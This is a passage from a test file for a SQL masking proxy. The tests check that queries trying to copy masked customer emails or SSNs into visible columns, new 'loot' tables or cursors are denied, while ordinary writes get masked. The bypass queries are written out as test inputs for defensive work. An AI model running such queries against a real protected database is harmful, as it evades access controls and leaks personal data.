      'UPDATE orders SET status = (SELECT email FROM customers c WHERE c.id = orders.customer_id) WHERE id = 1',
      'INSERT INTO orders (id, status) VALUES (1, \'x\') ON CONFLICT (id) DO UPDATE SET status = (SELECT email FROM customers LIMIT 1)',
      'MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN UPDATE SET status = c.email',
      'CREATE TABLE loot AS SELECT email FROM customers',
      'SELECT email INTO loot FROM customers',
    ]) {
      const decided = decide(support, sql, { policy });
      expect({ action: decided.action, ruleId: decided.ruleId }, sql).toEqual({ action: 'deny', ruleId: 'builtin:inference' });
      expect(decided.hint, sql).toContain('allow_inference: [write]');
    }
    for (const sql of [
      'INSERT INTO orders (customer_id, status) SELECT id, \'x\' FROM customers WHERE id = 1',
      'UPDATE customers SET email = \'new@example.com\' WHERE id = 1',
      'UPDATE customers SET name = \'x\' WHERE id = 1',
    ]) expect(decide(support, sql, { policy }).action, sql).toBe('mask');
  });

  it('blurs positions when several statements of one message compute masked values', () => {
    expect(derived('SELECT length(email) FROM customers; SELECT 1, reverse(ssn) FROM customers')).toEqual({
      columns: [{ masked: true, star: true, computed: true }], style: 'partial',
    });
    expect(flags('SELECT 1; SELECT id, reverse(ssn) FROM customers')).toBe('- C');
  });

  it('denies a cursor over computed masked values: FETCH would show nothing of its query', () => {
    const decided = decide('alice', 'DECLARE c CURSOR FOR SELECT reverse(ssn) FROM customers');
    expect(decided).toMatchObject({ action: 'deny', ruleId: 'builtin:masked-cursor' });
    expect(decide('alice', 'DECLARE c CURSOR FOR SELECT email FROM customers').derivedOutputs?.columns).toEqual([{ masked: true, star: false, computed: false }]);
    // Through a UNION the value is the column's, but FETCH's RowDescription would not say so.
    expect(decide('alice', "DECLARE c CURSOR FOR SELECT email FROM customers UNION ALL SELECT 'x'").ruleId).toBe('builtin:masked-cursor');
    expect(decide('bob', 'DECLARE c CURSOR FOR SELECT reverse(ssn) FROM customers').action).toBe('allow');
    // Computed inside a subquery, or a whole row: still not what FETCH's RowDescription would attribute.
    expect(decide('alice', 'DECLARE c CURSOR FOR SELECT r FROM (SELECT reverse(ssn) AS r FROM customers) s').ruleId).toBe('builtin:masked-cursor');
    expect(decide('alice', 'DECLARE c CURSOR FOR SELECT c FROM customers c').ruleId).toBe('builtin:masked-cursor');
    // psql's FETCH_COUNT mode: a cursor over the table's columns is fine, FETCH's rows are masked by catalog.
    expect(decide('alice', 'DECLARE _psql_cursor NO SCROLL CURSOR FOR SELECT * FROM customers').action).toBe('mask');
  });
});
